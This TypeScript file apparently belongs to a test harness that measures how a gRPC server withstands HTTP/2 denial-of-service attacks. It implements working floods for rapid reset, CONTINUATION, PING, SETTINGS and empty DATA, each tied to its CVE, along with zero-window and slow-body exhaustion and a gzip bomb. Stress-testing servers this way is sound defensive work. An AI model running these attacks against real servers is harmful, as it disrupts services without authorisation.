import { gzipSync } from "node:zlib";
import { CONTINUATION, DATA, frame, HEADERS, headerBlock, PING, SETTINGS, settings } from "../fault/frames.js";
import { Attacker, message, request, reset } from "./attacker.js";
import { methods } from "./service.js";

/** What somebody does to a server; it returns while the harm, if any, is there to be measured. */
export interface Attack {
  readonly name: string;
  /** `scale`: 1 for the whole attack, less for a short run. Returns who is to leave when all is measured. */
  run(port: number, scale: number): Promise<Attacker>;
  /** Leaving is the attack: measured again behind it. */
  readonly byLeaving?: boolean;
  /** The server is told to run so many handlers at most on one connection. */
  readonly maxRunning?: number;
  /** Bytes that ours may grow by at most, whatever grpc-js's server does. */
  readonly maxMemory?: number;
}

const EMPTY_MESSAGE = Buffer.alloc(5);
const { echo, idle } = methods;

/** Frames, many at a time, until they are all out or the server has had enough. */
async function flood(attacker: Attacker, count: number, one: (index: number) => Buffer): Promise<void> {
  for (let sent = 0; sent < count; sent += 100) {
    const batch = Array.from({ length: 100 }, (_, index) => one(sent + index));
    if (!(await attacker.write(...batch))) return;
  }
}

async function fillStreams(port: number, streams: number): Promise<Attacker> {
  const attacker = await Attacker.open(port);
  for (let i = 0; i < streams; i++) await attacker.fill(1 + 2 * i, idle.path, 60_000, EMPTY_MESSAGE);
  return attacker;
}

const BOMB = gzipSync(Buffer.alloc(64 * 1024 * 1024));

export const ATTACKS: readonly Attack[] = [
  {
    name: "250 streams of empty messages that nobody reads, 15 MB",
    run: (port) => fillStreams(port, 250),
  },
  {
    name: "60 MB of messages of 5 bytes left behind",
    run: (port, scale) => fillStreams(port, 1000 * scale),
    byLeaving: true,
    maxMemory: 100 * 1024 * 1024,
  },
  {
    name: "zero window: 5,000 answers of 16 KB that may not go out",
    async run(port, scale) {
      const attacker = await Attacker.open(port, [4, 0]);
      await flood(attacker, 5000 * scale, (i) =>
        Buffer.concat([request(1 + 2 * i, echo.path), message(1 + 2 * i, EMPTY_MESSAGE.subarray(5))]),
      );
      return attacker;
    },
  },
  {
    name: "answers that nobody takes from the socket",
    async run(port, scale) {
      const attacker = await Attacker.open(port, [4, 0x7fffffff]);
      attacker.socket.pause();
      await flood(attacker, 5000 * scale, (i) =>
        Buffer.concat([request(1 + 2 * i, echo.path), message(1 + 2 * i, EMPTY_MESSAGE.subarray(5))]),
      );
      return attacker;
    },
  },
  {
    name: "handlers that run on behind calls that were reset",
    maxRunning: 100,
    async run(port, scale) {
      const attacker = await Attacker.open(port);
      await flood(attacker, 5000 * scale, (i) => Buffer.concat([request(1 + 2 * i, idle.path), reset(1 + 2 * i)]));
      return attacker;
    },
  },
  {
    name: "rapid reset (CVE-2023-44487)",
    async run(port, scale) {
      const attacker = await Attacker.open(port);
      await flood(attacker, 50_000 * scale, (i) => Buffer.concat([request(1 + 2 * i, echo.path), reset(1 + 2 * i)]));
      return attacker;
    },
  },
  {
    name: "CONTINUATION without end (CVE-2024-27316)",
    async run(port, scale) {
      const attacker = await Attacker.open(port);
      await attacker.write(frame(HEADERS, 0, 1, headerBlock([[":method", "POST"]])));
      const block = headerBlock([["x-a", "v".repeat(1000)]]);
      await flood(attacker, 100_000 * scale, () => frame(CONTINUATION, 0, 1, block));
      return attacker;
    },
  },
  {
    name: "PING flood (CVE-2019-9512)",
    async run(port, scale) {
      const attacker = await Attacker.open(port);
      await flood(attacker, 200_000 * scale, () => frame(PING, 0, 0, Buffer.alloc(8)));
      return attacker;
    },
  },
  {
    name: "SETTINGS flood (CVE-2019-9515)",
    async run(port, scale) {
      const attacker = await Attacker.open(port);
      await flood(attacker, 200_000 * scale, (i) => frame(SETTINGS, 0, 0, settings([4, 65_535 + (i % 2)])));
      return attacker;
    },
  },
  {
    name: "empty DATA (CVE-2019-9518)",
    async run(port, scale) {
      const attacker = await Attacker.open(port);
      await attacker.write(request(1, idle.path));
      await flood(attacker, 200_000 * scale, () => frame(DATA, 0, 1));
      return attacker;
    },
  },
  {
    name: "slow bodies: 5,000 streams with half a prefix",
    async run(port, scale) {
      const attacker = await Attacker.open(port);
      await flood(attacker, 5000 * scale, (i) =>
        Buffer.concat([request(1 + 2 * i, echo.path), frame(DATA, 0, 1 + 2 * i, Buffer.alloc(3))]),
      );
      return attacker;
    },
  },
  {
    name: "gzip bombs: 64 KB that become 64 MB",
    async run(port, scale) {
      const attacker = await Attacker.open(port);
      for (let i = 0; i < 100 * scale; i++) {
        const stream = 1 + 2 * i;
        const bomb = message(stream, BOMB, 1);
        // In frames of 16 KB, as the server may have announced no more.
        if (!(await attacker.write(request(stream, echo.path, [["grpc-encoding", "gzip"]])))) break;
        for (let at = 9; at < bomb.length; at += 16_000) {
          const part = bomb.subarray(at, at + 16_000);
          await attacker.write(frame(DATA, at + 16_000 >= bomb.length ? 1 : 0, stream, part));
        }
      }
      return attacker;
    },
  },
];
